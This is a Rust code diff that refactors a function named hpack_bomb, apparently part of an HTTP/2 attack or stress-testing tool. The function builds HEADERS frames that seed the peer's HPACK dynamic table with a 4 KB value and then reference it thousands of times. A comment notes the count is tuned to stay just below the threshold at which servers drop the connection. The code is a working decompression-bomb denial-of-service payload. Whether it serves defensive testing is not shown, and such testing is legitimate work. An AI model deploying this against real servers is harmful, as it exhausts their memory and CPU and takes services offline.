@@ -10,6 +10,9 @@ const UNKNOWN: u8 = 0xee;
 const END_STREAM: u8 = 0x1;
 const END_HEADERS: u8 = 0x4;
 
+/// The field with the number 62: the first of the table that the peer makes (RFC 7541 §2.3.3, §6.1).
+const FIRST_OF_TABLE: u8 = 0xbe;
+
 /// How many frames are made at once.
 const AT_ONCE: u32 = 200;
 
@@ -93,7 +96,7 @@ pub(crate) fn hpack_bomb(stand: &mut Stand) -> (Vec<u8>, u64) {
     let mut frames = Vec::new();
     if stand.pieces == 0 {
         stand.pieces = 1;
-        // Into the table (RFC 7541 §6.2.1), where the first one has the number 62.
+        // Into the table (RFC 7541 §6.2.1).
         let value = vec![b'a'; 4_000];
         let mut bytes = block();
         bytes.extend([0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
@@ -102,13 +105,13 @@ pub(crate) fn hpack_bomb(stand: &mut Stand) -> (Vec<u8>, u64) {
     }
     let mut bytes = block();
     // Just below what is answered with the end of the connection: 15 times 4 KB.
-    bytes.extend([0x80 | 62; 15]);
+    bytes.extend([FIRST_OF_TABLE; 15]);
     for _ in 0..AT_ONCE / 10 {
         let stream = stand.next_stream();
         frames.push(Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, bytes.clone()));
     }
     let stream = stand.next_stream();
-    bytes.extend([0x80 | 62; 10_000]);
+    bytes.extend([FIRST_OF_TABLE; 10_000]);
     frames.push(Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, bytes));
     joined(&frames)
 }
